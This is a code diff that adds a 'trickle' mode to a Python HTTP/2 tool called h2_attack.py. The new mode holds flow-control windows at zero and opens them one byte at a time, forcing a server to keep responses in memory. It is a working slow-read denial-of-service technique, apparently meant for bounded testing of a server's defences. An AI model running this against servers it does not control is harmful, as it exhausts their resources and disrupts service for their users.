@@ -43,6 +43,14 @@ bounded in count and time.
       every 2 s, until the server closes the connection or S seconds (default 15) pass.
       Prints {"closed_after": seconds or null}.
 
+  h2_attack.py trickle --port P --cafile F [--streams M] --path PATH [--seconds S]
+      One connection; M (default 1) GET PATH with a zero window, then every 0.5 s each
+      stream's window and the connection's opened by one byte: the server sends a byte of
+      each answer at a time (an answer taken a byte at a time holds its memory and its cut
+      version). Until the server closes the connection or resets every stream, or S
+      seconds (default 15). Prints {"ended_after": seconds or null, "closed", "resets",
+      "bytes" (of body received)}.
+
   h2_attack.py frames --port P --cafile F --kind KIND [--seconds S] [--curl URL]
       One connection that sends frames as fast as it can without reading, until the
       server closes it or S seconds (default 10) pass. KIND: window_update (connection
@@ -309,6 +317,33 @@ def cmd_keepalive(a):
     return 0
 
 
+def cmd_trickle(a):
+    c = H2(a.port, a.cafile, window=0)
+    sids = [c.get(a.path) for _ in range(a.streams)]
+    c.flush()
+    t0 = time.time()
+    while time.time() - t0 < a.seconds:
+        try:  # each stream's window and the connection's opened by one byte: a byte of body each
+            for sid in sids:
+                if sid not in c.resets:
+                    c.conn.increment_flow_control_window(1, stream_id=sid)
+            c.conn.increment_flow_control_window(len(sids))
+            c.flush()
+        except (OSError, h2.exceptions.ProtocolError, h2.exceptions.StreamClosedError):
+            break
+        end = time.time() + 0.5
+        while time.time() < end and c.pump(timeout=max(0.01, end - time.time())) and not c.closed:
+            pass
+        if c.closed or all(x in c.resets for x in sids):
+            break
+    ended = c.closed or all(x in c.resets for x in sids)
+    took = round(time.time() - t0, 2) if ended else None
+    c.abort()
+    print(json.dumps({"ended_after": took, "closed": c.closed, "resets": len(c.resets),
+                      "bytes": sum(c.data.values())}))
+    return 0
+
+
 def frame(ftype, flags, sid, payload=b""):
     return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big") + payload
 
@@ -565,6 +600,12 @@ def main():
     k.add_argument("--streams", type=int, default=0)
     k.add_argument("--path", default="")
     k.add_argument("--seconds", type=float, default=15)
+    tr = sub.add_parser("trickle")
+    tr.add_argument("--port", type=int, required=True)
+    tr.add_argument("--cafile", required=True)
+    tr.add_argument("--streams", type=int, default=1)
+    tr.add_argument("--path", required=True)
+    tr.add_argument("--seconds", type=float, default=15)
     fr = sub.add_parser("frames")
     fr.add_argument("--port", type=int, required=True)
     fr.add_argument("--cafile", required=True)
@@ -601,6 +642,8 @@ def main():
         return cmd_flood(a)
     if a.cmd == "keepalive":
         return cmd_keepalive(a)
+    if a.cmd == "trickle":
+        return cmd_trickle(a)
     if a.cmd == "frames":
         return cmd_frames(a)
     if a.cmd == "h1pipe":
